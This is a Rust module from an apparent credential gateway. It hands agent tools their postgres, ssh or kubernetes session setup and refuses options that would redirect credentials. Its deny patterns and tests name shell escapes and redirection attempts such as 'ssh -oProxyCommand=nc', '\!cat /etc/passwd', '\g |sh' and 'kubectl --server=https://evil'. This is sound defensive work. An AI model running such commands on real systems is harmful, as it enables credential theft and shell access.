//! What a target hands the tool of one session, and the command lines it refuses so that
//! its credentials stay pointed at it.
//!
//! A target's plain settings (host, port, user, …) and credentials (password, private key,
//! token, secret files) become environment variables, files of a private per-session
//! directory, and for ssh the arguments that point `ssh` at a generated config. The gateway
//! builds this [`ToolSetup`] per session; the client writes the files and removes them when
//! the session ends. Pure logic: the gateway resolved the secrets at start.
//!
//! The tool's user (the agent) never sees a credential, but the tool must: whatever the tool
//! can be told to do with a file or a connection, the caller can make it do. So each kind
//! refuses the options that would send the credential somewhere else (`ssh -o
//! ProxyCommand=…`, `kubectl --server=…`, `psql -h …`), and postgres targets deny psql's
//! escapes to a local shell by default (see [`builtin_deny`]). docs/TARGETS.md lists them.

use std::collections::BTreeMap;

use crate::auth::Secret;
use crate::proto::{ToolArg, ToolFile};

use super::{program_name, Target, TargetKind};

/// The environment variable the client sets, for the tool, to the session's private
/// directory (generated configs refer to their files through it).
pub const SESSION_DIR_VAR: &str = "HOOPX_SESSION_DIR";

/// A target's connection settings and credentials, beyond `env` and `secret_env`.
#[derive(Debug, Clone, Default)]
pub struct Access {
    pub host: Option<String>,
    pub port: Option<u16>,
    pub user: Option<String>,
    /// postgres: the database.
    pub database: Option<String>,
    /// kubernetes: the default namespace.
    pub namespace: Option<String>,
    /// kubernetes: the API server URL.
    pub server: Option<String>,
    /// ssh: known_hosts entries for the host (not secret).
    pub known_hosts: Option<String>,
    /// kubernetes: the CA certificate(s) of the API server, PEM (not secret).
    pub ca: Option<String>,
    /// postgres: the password.
    pub password: Option<Secret>,
    /// ssh: the private key (OpenSSH or PEM format).
    pub private_key: Option<Secret>,
    /// kubernetes: the bearer token.
    pub token: Option<Secret>,
    /// kubernetes: the client certificate (PEM, not secret) the gateway presents to the
    /// API server, and its key.
    pub client_certificate: Option<String>,
    pub client_key: Option<Secret>,
    /// Secret files by environment variable: the tool gets the variable set to the path of
    /// a private file holding the value (`GOOGLE_APPLICATION_CREDENTIALS`, a client key).
    pub secret_files: BTreeMap<String, Secret>,
}

/// Which settings a kind takes, for the config's checks.
pub fn accepts(kind: TargetKind, field: &str) -> bool {
    use TargetKind::*;
    match field {
        "host" | "port" | "user" => matches!(kind, Postgres | Ssh),
        "database" | "password" => kind == Postgres,
        "private_key" | "known_hosts" => kind == Ssh,
        "ca" => matches!(kind, Kubernetes | Postgres),
        "server" | "namespace" | "token" | "client_certificate" | "client_key" => {
            kind == Kubernetes
        }
        _ => true,
    }
}

/// The programs a kind runs when its target lists none.
pub fn default_programs(kind: TargetKind) -> &'static [&'static str] {
    match kind {
        TargetKind::Postgres => &["psql"],
        TargetKind::Ssh => &["ssh", "scp", "sftp"],
        TargetKind::Kubernetes => &["kubectl"],
        TargetKind::Command => &[],
    }
}

/// The programs a kind may hand its credentials to: they read them from where the setup
/// puts them, and the command-line checks know their options.
pub fn credential_programs(kind: TargetKind) -> &'static [&'static str] {
    match kind {
        TargetKind::Postgres => &[
            "psql",
            "pg_dump",
            "pg_dumpall",
            "pg_restore",
            "pg_isready",
            "pgbench",
        ],
        TargetKind::Ssh => &["ssh", "scp", "sftp"],
        TargetKind::Kubernetes => &["kubectl"],
        TargetKind::Command => &[],
    }
}

/// Whether `program` may run on a target of `kind` holding `access`: a target whose tool
/// gets credentials runs only programs that keep them pointed at it. A postgres password
/// stays at the gateway (the tool gets the session's local endpoint), so a postgres target
/// with only a password runs any client (a psycopg script).
pub fn may_hold_credentials(kind: TargetKind, access: &Access, program: &str) -> bool {
    let hands_secrets = match kind {
        TargetKind::Command => false,
        // Postgres passwords and kubernetes tokens stay at the gateway.
        TargetKind::Postgres | TargetKind::Kubernetes => !access.secret_files.is_empty(),
        TargetKind::Ssh => access.holds_secrets(),
    };
    !hands_secrets || credential_programs(kind).contains(&program)
}

/// A deny rule a kind turns on by default: `(name, pattern, message)`.
pub type BuiltinDeny = (&'static str, &'static str, &'static str);

/// The escape hatches a kind closes by default with deny rules, matched like any deny rule
/// on the command line and on every input line. A target turns them off with
/// `builtin_deny = []` (or keeps some by name).
pub fn builtin_deny(kind: TargetKind) -> &'static [BuiltinDeny] {
    match kind {
        TargetKind::Postgres => &[
            (
                "psql-shell-escape",
                r"\\!",
                "psql's \\! runs a local shell, around the gateway",
            ),
            (
                "psql-local-io",
                concat!(
                    // Output to a file or a program: around the session's recording.
                    r"\\(o|out|g|gx|w|write)\s+\S",
                    // The editor, the environment, large objects, client-side copy: local
                    // programs and files.
                    r"|\\(e|edit|ef|ev|setenv|lo_export|lo_import)(\s|$)",
                    r"|(?i)\\copy\b",
                    // The same on psql's command line: -o FILE, -L FILE. (Input from files,
                    // `-f` and `\i`, is fine: the gateway checks every statement it sends.)
                    r"|^\S*psql\s(.*\s)?(-[A-Za-z]*[oL]|--(output|log-file))",
                ),
                "psql writes local files and runs local programs (editor, pipes) around the session's recording",
            ),
            (
                "psql-reconnect",
                r"\\(c|connect)(\s|$)",
                "\\connect could take the target's password to another server",
            ),
        ],
        TargetKind::Kubernetes => &[
            (
                "kubectl-tunnel",
                r"^\S*kubectl\s(.*\s)?(proxy|port-forward)(\s|$)",
                "kubectl proxy and port-forward open tunnels the gateway cannot see",
            ),
            (
                "kubectl-edit",
                r"^\S*kubectl\s(.*\s)?edit(\s|$)",
                "kubectl edit runs a local editor, which can read the session's kubeconfig",
            ),
        ],
        TargetKind::Ssh | TargetKind::Command => &[],
    }
}

/// A statement rule a kind turns on by default: `(name, statement kinds, function globs,
/// message)`, one condition each (see [`crate::policy::sql::SqlMatch`]).
pub type BuiltinStatementDeny = (
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
    &'static str,
);

/// What a kind denies by default in the parsed SQL the gateway relays. A target turns them
/// off with `builtin_deny` like the line rules; docs/POSTGRES.md lists them.
pub fn builtin_statement_deny(kind: TargetKind) -> &'static [BuiltinStatementDeny] {
    match kind {
        TargetKind::Postgres => &[
            (
                "pg-dynamic-sql",
                &["dynamic"],
                &[],
                "the statement runs SQL the gateway cannot check before it runs (DO, EXECUTE, a function body given as a string, dblink, query_to_xml …)",
            ),
            (
                "pg-server-programs",
                &["copy_to_program", "copy_from_program"],
                &[],
                "COPY … PROGRAM runs a program on the database server",
            ),
            (
                "pg-server-files",
                &["copy_file"],
                &[],
                "COPY to or from a file reads or writes files on the database server",
            ),
            (
                "pg-server-file-functions",
                &[],
                &[
                    "pg_read_*",
                    "pg_ls_*",
                    "pg_stat_file",
                    "pg_file_*",
                    "lo_import",
                    "lo_export",
                ],
                "the function reads, lists or writes files on the database server",
            ),
        ],
        TargetKind::Ssh | TargetKind::Kubernetes | TargetKind::Command => &[],
    }
}

/// The names of a kind's built-in deny rules, line and statement rules.
pub fn builtin_deny_names(kind: TargetKind) -> Vec<&'static str> {
    builtin_deny(kind)
        .iter()
        .map(|b| b.0)
        .chain(builtin_statement_deny(kind).iter().map(|b| b.0))
        .collect()
}

impl Access {
    /// The values masked in the target's output: each secret whole, and each line of a
    /// multi-line one (a terminal echoes a private key line by line, as `\r\n`).
    pub fn secret_values(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let secrets = [
            &self.password,
            &self.private_key,
            &self.token,
            &self.client_key,
        ]
        .into_iter()
        .flatten()
        .chain(self.secret_files.values());
        for s in secrets {
            let v = s.expose();
            out.push(v.trim_end_matches(['\r', '\n']));
            if v.contains('\n') {
                out.extend(
                    v.lines()
                        .map(|l| l.trim_matches(|c: char| c.is_ascii_whitespace()))
                        .filter(|l| !l.is_empty()),
                );
            }
        }
        out
    }

    fn holds_secrets(&self) -> bool {
        self.password.is_some()
            || self.private_key.is_some()
            || self.token.is_some()
            || self.client_key.is_some()
            || !self.secret_files.is_empty()
    }
}

/// What the tool of one session gets besides its command line.
#[derive(Debug, Default)]
pub struct ToolSetup {
    pub env: BTreeMap<String, String>,
    pub env_remove: Vec<String>,
    pub files: Vec<ToolFile>,
    pub argv: Option<Vec<ToolArg>>,
}

/// Why a command line is refused on a target (exit 77, nothing runs): what, and what to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub message: String,
    pub hint: String,
}

fn refuse(message: impl Into<String>, hint: impl Into<String>) -> Refusal {
    Refusal {
        message: message.into(),
        hint: hint.into(),
    }
}

/// Builds the tool's setup for `argv` on `target`, or refuses the command line.
pub fn setup(target: &Target, argv: &[String]) -> Result<ToolSetup, Refusal> {
    let a = &target.access;
    let mut s = ToolSetup {
        env: target.env.clone(),
        ..Default::default()
    };
    for (k, v) in &target.secret_env {
        s.env.insert(k.clone(), v.expose().to_string());
    }
    for (var, v) in &a.secret_files {
        s.files.push(ToolFile {
            name: format!("secret-{var}"),
            contents: v.expose().to_string(),
            env: Some(var.clone()),
        });
    }
    let program = argv.first().map(|p| program_name(p)).unwrap_or("");
    match target.kind {
        TargetKind::Postgres => postgres(target, argv, &mut s)?,
        TargetKind::Ssh if program == "ssh" => ssh(target, argv, &mut s)?,
        TargetKind::Ssh if program == "scp" || program == "sftp" => {
            super::ssh::check_transfer(argv, &target.name, a.host.as_deref(), a.user.as_deref())?;
            s.env.clear();
            s.files.clear();
        }
        TargetKind::Kubernetes if program == "kubectl" => kubernetes(target, argv, &mut s)?,
        TargetKind::Ssh if a.holds_secrets() => {
            return Err(refuse(
                format!(
                    "target {:?} hands its credentials to {} only, not to {program:?}",
                    target.name,
                    default_programs(target.kind)[0]
                ),
                "run the target's own program",
            ))
        }
        _ => {}
    }
    Ok(s)
}

fn postgres(target: &Target, argv: &[String], s: &mut ToolSetup) -> Result<(), Refusal> {
    let a = &target.access;
    // The tool reaches the target through the session's local endpoint (the client sets
    // PGHOST, PGPORT and the endpoint's own PGPASSWORD): the target's host, port and
    // password stay at the gateway.
    for (var, v) in [
        ("PGUSER", a.user.clone()),
        ("PGDATABASE", a.database.clone()),
    ] {
        if let Some(v) = v {
            s.env.insert(var.into(), v);
        }
    }
    // No caller's psqlrc (its commands would run unchecked) and no pager (less runs
    // commands too), unless the target's own `env` says otherwise.
    s.env
        .entry("PSQLRC".into())
        .or_insert_with(|| "/dev/null".into());
    s.env.entry("PSQL_PAGER".into()).or_default();
    // The caller's libpq variables could point the tool elsewhere (another host, a
    // service file) or ask for TLS the local endpoint does not offer.
    s.env_remove.extend(
        [
            "PGHOSTADDR",
            "PGSERVICE",
            "PGSERVICEFILE",
            "PGPASSFILE",
            "PGSSLMODE",
            "PGREQUIRESSL",
            "PGGSSENCMODE",
            "PGSSLCERT",
            "PGSSLKEY",
        ]
        .iter()
        .filter(|v| !s.env.contains_key(**v))
        .map(|v| v.to_string()),
    );
    // The connection comes from the target, never from the command line.
    let conn = |arg: &str| {
        refuse(
            format!(
                "{arg:?} on the command line: target {:?} sets the connection itself (host, port, user and database)",
                target.name
            ),
            "leave connection options and connection strings off the command line; a plain database name is fine",
        )
    };
    let (short_value, long_value) = match argv.first().map(|p| program_name(p)) {
        Some("pgbench") => (PGBENCH_SHORT_VALUE, PGBENCH_LONG_VALUE),
        _ => (PSQL_SHORT_VALUE, PSQL_LONG_VALUE),
    };
    let mut positional = 0;
    let mut options_ended = false;
    let mut i = 1;
    while i < argv.len() {
        let arg = argv[i].as_str();
        i += 1;
        if arg == "--" && !options_ended {
            // What follows is positional: a database name, a user, a connection string.
            options_ended = true;
            continue;
        }
        if !options_ended {
            if let Some(long) = arg.strip_prefix("--") {
                let (name, inline) = match long.split_once('=') {
                    Some((n, _)) => (n, true),
                    None => (long, false),
                };
                if PSQL_LONG_CONN.contains(&name) {
                    return Err(conn(arg));
                }
                if !inline && long_value.contains(&name) {
                    i += 1;
                }
                continue;
            }
            if let Some(shorts) = arg.strip_prefix('-').filter(|s| !s.is_empty()) {
                for (at, c) in shorts.char_indices() {
                    if "dhpU".contains(c) {
                        return Err(conn(arg));
                    }
                    if short_value.contains(c) {
                        if at + c.len_utf8() == shorts.len() {
                            i += 1;
                        }
                        break;
                    }
                }
                continue;
            }
        }
        positional += 1;
        if positional > 1
            || arg.contains('=')
            || arg.starts_with("postgres://")
            || arg.starts_with("postgresql://")
        {
            return Err(conn(arg));
        }
    }
    Ok(())
}

/// psql's short options that take a value (the connection ones are refused before).
const PSQL_SHORT_VALUE: &str = "cfLoPRTvF";
const PSQL_LONG_VALUE: &[&str] = &[
    "command",
    "file",
    "log-file",
    "output",
    "pset",
    "record-separator",
    "table-attr",
    "field-separator",
    "set",
    "variable",
];
const PSQL_LONG_CONN: &[&str] = &["host", "port", "username", "dbname"];
/// pgbench's options that take a value: a value option's argument is skipped, so a flag
/// listed here by mistake would hide a connection string after it.
const PGBENCH_SHORT_VALUE: &str = "bcDfFIjLMPRstT";
const PGBENCH_LONG_VALUE: &[&str] = &[
    "aggregate-interval",
    "builtin",
    "client",
    "define",
    "file",
    "fillfactor",
    "index-tablespace",
    "init-steps",
    "jobs",
    "latency-limit",
    "log-prefix",
    "max-tries",
    "partition-method",
    "partitions",
    "progress",
    "protocol",
    "random-seed",
    "rate",
    "sampling-rate",
    "scale",
    "show-script",
    "tablespace",
    "time",
    "transactions",
];

/// An ssh target: the gateway is the SSH client (`gateway::ssh`), so the tool gets nothing:
/// no key, no config, no command line to run. The command line is checked here (what it
/// asks for must be something the gateway's connection can do, on the target's own host).
fn ssh(target: &Target, argv: &[String], s: &mut ToolSetup) -> Result<(), Refusal> {
    let a = &target.access;
    let c = super::ssh::parse(argv, &target.name)?;
    c.check_target(&target.name, a.host.as_deref(), a.user.as_deref())?;
    // Nothing of the target's crosses to the client: its env and secrets stay here too.
    s.env.clear();
    s.files.clear();
    Ok(())
}

/// kubectl's own commands (a first argument outside these runs a plugin).
const KUBECTL_COMMANDS: &[&str] = &[
    "alpha",
    "annotate",
    "api-resources",
    "api-versions",
    "apply",
    "attach",
    "auth",
    "autoscale",
    "certificate",
    "cluster-info",
    "completion",
    "config",
    "cordon",
    "cp",
    "create",
    "debug",
    "delete",
    "describe",
    "diff",
    "drain",
    "edit",
    "events",
    "exec",
    "explain",
    "expose",
    "get",
    "help",
    "kustomize",
    "label",
    "logs",
    "options",
    "patch",
    "plugin",
    "port-forward",
    "proxy",
    "replace",
    "rollout",
    "run",
    "scale",
    "set",
    "taint",
    "top",
    "uncordon",
    "version",
    "wait",
];

/// kubectl flags that would take the credential elsewhere, swap it, or run local programs
/// (kustomize plugins, helm) that could read it.
const KUBECTL_REFUSED: &[&str] = &[
    "--enable-alpha-plugins",
    "--enable-exec",
    "--enable-helm",
    "--helm-command",
    "--kubeconfig",
    "--server",
    "-s",
    "--token",
    "--username",
    "--password",
    "--client-certificate",
    "--client-key",
    "--certificate-authority",
    "--insecure-skip-tls-verify",
    "--tls-server-name",
    "--context",
    "--cluster",
    "--user",
    "--as",
    "--as-group",
    "--as-uid",
];

fn kubernetes(target: &Target, argv: &[String], s: &mut ToolSetup) -> Result<(), Refusal> {
    // kubectl runs `kubectl-NAME` from PATH for a first argument it does not know: that
    // program would get the token.
    if let Some(first) = argv.get(1).filter(|a| !a.starts_with('-')) {
        if !KUBECTL_COMMANDS.contains(&first.as_str()) {
            return Err(refuse(
                format!(
                    "kubectl {first:?} is not a kubectl command; target {:?} runs no kubectl plugins (programs it does not list)",
                    target.name
                ),
                format!("run one of kubectl's own commands: {}", KUBECTL_COMMANDS.join(", ")),
            ));
        }
    }
    for arg in argv.iter().skip(1).take_while(|a| *a != "--") {
        let flag = arg.split('=').next().unwrap_or("");
        if KUBECTL_REFUSED.contains(&flag) || (arg.starts_with("-s") && !arg.starts_with("--")) {
            return Err(refuse(
                format!(
                    "kubectl {flag} is not allowed on target {:?}: the target sets the cluster and the credentials",
                    target.name
                ),
                "leave cluster, user and credential flags off the command line",
            ));
        }
    }
    // The kubeconfig is the client's to write: its server is the session's local
    // endpoint and its token the endpoint's (see `SessionOpened.tunnel`). The target's
    // server, CA and token stay at the gateway.
    // The caller's kubectl preferences (aliases, default flags) and diff program stay out.
    s.env.insert("KUBECTL_KUBERC".into(), "false".into());
    s.env.insert("KUBERC".into(), "off".into());
    s.env_remove.push("KUBECTL_EXTERNAL_DIFF".into());
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target(kind: TargetKind, access: Access) -> Target {
        Target {
            name: "t".into(),
            kind,
            command: vec![],
            env: BTreeMap::new(),
            secret_env: BTreeMap::new(),
            access,
            groups: vec![],
        }
    }

    fn argv(s: &str) -> Vec<String> {
        s.split_whitespace().map(String::from).collect()
    }

    fn ssh_target() -> Target {
        target(
            TargetKind::Ssh,
            Access {
                host: Some("10.0.0.5".into()),
                port: Some(2222),
                user: Some("deploy".into()),
                private_key: Some(Secret::new("-----BEGIN KEY-----\nAAAA\n-----END KEY-----")),
                known_hosts: Some("ssh-ed25519 AAAAC3Nz\n[other]:22 ssh-rsa AAAAB3\n".into()),
                ..Default::default()
            },
        )
    }

    #[test]
    fn ssh_hands_the_client_nothing_and_refuses_other_hosts_and_options() {
        let t = ssh_target();
        for good in [
            "ssh",
            "ssh t uptime -a",
            "ssh -tt t",
            "ssh deploy@t ls",
            "ssh 10.0.0.5",
        ] {
            let s = setup(&t, &argv(good)).unwrap();
            assert!(
                s.files.is_empty() && s.env.is_empty() && s.argv.is_none(),
                "{good}"
            );
            assert!(!format!("{s:?}").contains("AAAA"), "{good}");
        }
        for bad in [
            "ssh other",
            "ssh root@t",
            "ssh -F /tmp/cfg t",
            "ssh -i key t",
            "ssh -oProxyCommand=nc t",
            "ssh -L 1:h:2 t",
            "ssh -l root t",
            "ssh t -o ProxyCommand=sh",
        ] {
            let e = setup(&t, &argv(bad)).expect_err(bad);
            assert!(e.message.contains("target \"t\""), "{bad}: {e:?}");
        }
        // Another program never runs on an ssh target.
        let e = setup(&t, &argv("cat")).unwrap_err();
        assert!(e.message.contains("ssh only"), "{e:?}");
    }

    #[test]
    fn postgres_gets_user_and_database_and_never_the_server_or_password() {
        let t = target(
            TargetKind::Postgres,
            Access {
                host: Some("db".into()),
                port: Some(5433),
                user: Some("app".into()),
                database: Some("shop".into()),
                password: Some(Secret::new("p:w\\d")),
                ..Default::default()
            },
        );
        let s = setup(&t, &argv("psql -X -v ON_ERROR_STOP=1 -c select")).unwrap();
        // The client points PGHOST/PGPORT at the session's local endpoint.
        assert!(!s.env.contains_key("PGHOST") && !s.env.contains_key("PGPORT"));
        assert_eq!(s.env["PGUSER"], "app");
        assert_eq!(s.env["PGDATABASE"], "shop");
        assert!(!s.env.contains_key("PGPASSWORD"));
        assert!(s.files.is_empty(), "no password file");
        assert!(!format!("{s:?}").contains("p:w"));
        assert!(s.env_remove.contains(&"PGHOSTADDR".to_string()));
        assert!(s.env_remove.contains(&"PGPASSFILE".to_string()));
        assert!(setup(&t, &argv("psql otherdb")).is_ok());
        let bare = target(TargetKind::Postgres, Access::default());
        assert!(setup(&bare, &argv("psql -h db")).is_err());
        assert!(setup(&t, &argv("psql -Atc a=1 -vX=1 --set Y=2 --set=Z=3")).is_ok());
        for bad in [
            "psql -h evil",
            "psql -hevil",
            "psql --host=evil",
            "psql -p 1",
            "psql -U root",
            "psql -d x",
            "psql hostaddr=1.2.3.4",
            "psql postgres://evil/db",
            "psql db otheruser",
            "psql -Xh evil",
            "psql --dbname x",
            "psql -- hostaddr=192.0.2.1",
            "psql mydb -h evil",
        ] {
            assert!(setup(&t, &argv(bad)).is_err(), "{bad}");
        }
        // pgbench: its own value options (-t, -j take a number; -v takes none).
        for good in [
            "pgbench -S -n -T 5 -c 4 -j 2",
            "pgbench -S -n -t 2000 -c 1 -l shop",
            "pgbench -n -t 2 -f big.sql --log-prefix out -P 1",
            "pgbench -i -s 1 -q --partitions 4",
        ] {
            assert!(setup(&t, &argv(good)).is_ok(), "{good}");
        }
        for bad in [
            "pgbench -h evil",
            "pgbench --host=evil",
            "pgbench -S -p 1",
            "pgbench -U root",
            "pgbench -v host=evil",
            "pgbench -Sv hostaddr=192.0.2.1",
            "pgbench -t 10 shop postgres://evil/db",
            "pgbench -- host=evil",
        ] {
            assert!(setup(&t, &argv(bad)).is_err(), "{bad}");
        }
    }

    #[test]
    fn kubernetes_gets_a_kubeconfig_and_refuses_credential_flags() {
        let t = target(
            TargetKind::Kubernetes,
            Access {
                server: Some("https://k8s:6443".into()),
                ca: Some("-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----\n".into()),
                token: Some(Secret::new("tok-123456")),
                namespace: Some("web".into()),
                ..Default::default()
            },
        );
        let s = setup(&t, &argv("kubectl get pods -n other")).unwrap();
        // No kubeconfig and no token: the client writes one pointing at the session's
        // local endpoint.
        assert!(s.files.is_empty(), "{s:?}");
        assert!(!format!("{s:?}").contains("tok-123456"));
        assert!(!s.env.values().any(|v| v.contains("tok-123456")));
        assert_eq!(s.env["KUBECTL_KUBERC"], "false");
        // The token stays at the gateway: any program may use the endpoint.
        assert!(may_hold_credentials(
            TargetKind::Kubernetes,
            &t.access,
            "curl"
        ));
        for bad in [
            "kubectl --server=https://evil get pods",
            "kubectl -s https://evil get pods",
            "kubectl get pods --kubeconfig /tmp/k",
            "kubectl --context other get pods",
            "kubectl --insecure-skip-tls-verify get pods",
            "kubectl get pods --token=x",
            "kubectl steal-token",
            "kubectl kustomize . --enable-alpha-plugins",
            "kubectl apply -k . --enable-helm",
        ] {
            assert!(setup(&t, &argv(bad)).is_err(), "{bad}");
        }
        // After `--`, arguments are the remote command's.
        assert!(setup(&t, &argv("kubectl exec p -- ls -s")).is_ok());
    }

    #[test]
    fn secret_values_are_masked_whole_and_line_by_line() {
        let a = Access {
            private_key: Some(Secret::new(
                "-----BEGIN K-----\r\nLINE1\nLINE2\n-----END K-----\n",
            )),
            token: Some(Secret::new("tok\n")),
            ..Default::default()
        };
        let v = a.secret_values();
        assert!(v.contains(&"tok"));
        assert!(v.contains(&"LINE1"));
        assert!(v.contains(&"-----BEGIN K-----"));
        assert!(v.contains(&"-----BEGIN K-----\r\nLINE1\nLINE2\n-----END K-----"));
    }

    #[test]
    fn builtin_deny_patterns_compile_and_catch_the_escapes() {
        let compiled = |k| {
            builtin_deny(k)
                .iter()
                .map(|(n, p, _)| (*n, regex::bytes::Regex::new(p).unwrap()))
                .collect::<Vec<_>>()
        };
        let pg = compiled(TargetKind::Postgres);
        let hit = |line: &str| {
            pg.iter()
                .find(|(_, r)| r.is_match(line.as_bytes()))
                .map(|r| r.0)
        };
        assert_eq!(hit("\\! id"), Some("psql-shell-escape"));
        assert_eq!(hit("  \\!cat /etc/passwd"), Some("psql-shell-escape"));
        for io in [
            "select 1 \\g |sh",
            "\\o | tee x",
            "\\o /tmp/unmasked.txt",
            "select 1 \\g /tmp/x",
            "\\copy t from program 'id'",
            "\\copy t to '/tmp/t.csv'",
            "\\e",
            "\\ef f",
            "\\setenv PAGER sh",
            "\\lo_export 1 /tmp/x",
            "psql -L /tmp/log",
            "psql -o /tmp/out",
        ] {
            assert_eq!(hit(io), Some("psql-local-io"), "{io}");
        }
        for fine in [
            "\\i /tmp/script.sql",
            "\\ir x.sql",
            "psql -f script.sql",
            "/usr/bin/psql -X -Atf script.sql",
            "psql --file=x",
            "select 1 \\g",
            "\\o",
            "select 5 -floor(2.5);",
            "psql -X -At -v x=1",
        ] {
            assert_eq!(hit(fine), None, "{fine}");
        }
        assert_eq!(hit("\\c other"), Some("psql-reconnect"));
        assert_eq!(hit("\\connect"), Some("psql-reconnect"));
        assert_eq!(hit("select '!' from t; \\conninfo"), None);
        assert_eq!(hit("\\dt"), None);
        let k = compiled(TargetKind::Kubernetes);
        assert!(k[1].1.is_match(b"kubectl -n x edit deploy/web"));
        assert!(!k[1].1.is_match(b"kubectl get pods editor"));
        assert!(k[0].1.is_match(b"kubectl port-forward pod/x 8080"));
        assert!(k[0].1.is_match(b"/usr/bin/kubectl -n x proxy"));
        assert!(!k[0].1.is_match(b"kubectl get pods"));
    }

    #[test]
    fn configs_turn_builtin_deny_rules_off_and_keep_names_apart() {
        use crate::policy::Policy;
        let pg = "[[targets]]\nname = \"pg\"\nkind = \"postgres\"\n";
        let p = Policy::from_toml(pg, "gw.toml").unwrap();
        assert!(p.denies("pg", b"\\! id").is_some());
        assert_eq!(
            p.targets[0].command,
            ["psql"],
            "the kind's program by default"
        );
        let p = Policy::from_toml(&format!("{pg}builtin_deny = []\n"), "gw.toml").unwrap();
        assert!(p.denies("pg", b"\\! id").is_none());
        let p = Policy::from_toml(
            &format!("{pg}builtin_deny = [\"psql-reconnect\"]\n"),
            "gw.toml",
        )
        .unwrap();
        assert!(p.denies("pg", b"\\! id").is_none());
        assert!(p.denies("pg", b"\\c other").is_some());
        let e = Policy::from_toml(&format!("{pg}builtin_deny = [\"psql-bang\"]\n"), "gw.toml")
            .unwrap_err();
        assert_eq!((e.line, e.column), (4, 17), "{e}");
        let e = Policy::from_toml(
            &format!("{pg}[[rules.deny]]\nname = \"psql-shell-escape\"\npattern = 'x'\n"),
            "gw.toml",
        )
        .unwrap_err();
        assert_eq!(e.line, 5, "{e}");
        // A command target is untouched.
        let p = Policy::from_toml("[[targets]]\nname = \"c\"\nkind = \"command\"\n", "gw.toml")
            .unwrap();
        assert!(p.deny.is_empty() && p.targets[0].command.is_empty());
    }

    #[test]
    fn config_checks_settings_per_kind() {
        use crate::policy::Policy;
        let bad = |text: &str| Policy::from_toml(text, "gw.toml").unwrap_err();
        let e = bad("[[targets]]\nname = \"w\"\nkind = \"ssh\"\nhost = \"h\"\nknown_hosts = \"ssh-ed25519 AAAA\"\nport = 70000\n");
        assert_eq!(e.line, 6, "{e}");
        let e = bad("[[targets]]\nname = \"w\"\nkind = \"ssh\"\nhost = \"h\\nProxyCommand x\"\n");
        assert_eq!(e.line, 4, "{e}");
        let e = bad("[[targets]]\nname = \"k\"\nkind = \"kubernetes\"\nserver = \"k8s:6443\"\n");
        assert!(e.reason.contains("https://"), "{e}");
        let e = bad("[[targets]]\nname = \"k\"\nkind = \"kubernetes\"\nserver = \"http://k8s:8080\"\ntoken = { env = \"PATH\" }\n");
        assert!(e.reason.contains("in the clear"), "{e}");
        let e =
            bad("[[targets]]\nname = \"pg\"\nkind = \"postgres\"\npassword = { env = \"PATH\" }\n");
        assert!(e.reason.contains("needs host"), "{e}");
        let e =
            bad("[[targets]]\nname = \"c\"\nkind = \"command\"\npassword = { env = \"PATH\" }\n");
        assert!(
            e.reason
                .contains("password does not apply to a command target"),
            "{e}"
        );
        let e = bad("[[targets]]\nname = \"c\"\nkind = \"command\"\nsecret_files.\"A-B\" = { env = \"PATH\" }\n");
        assert_eq!(e.line, 4, "{e}");
        let p = Policy::from_toml(
            "[[targets]]\nname = \"w\"\nkind = \"ssh\"\nhost = \"h\"\nknown_hosts = \"ssh-ed25519 AAAA\"\nprivate_key = { env = \"PATH\" }\n",
            "gw.toml",
        )
        .unwrap();
        // Debug never shows a secret.
        let path = std::env::var("PATH").unwrap();
        assert!(!format!("{:?}", p.targets[0]).contains(&path));
    }
}
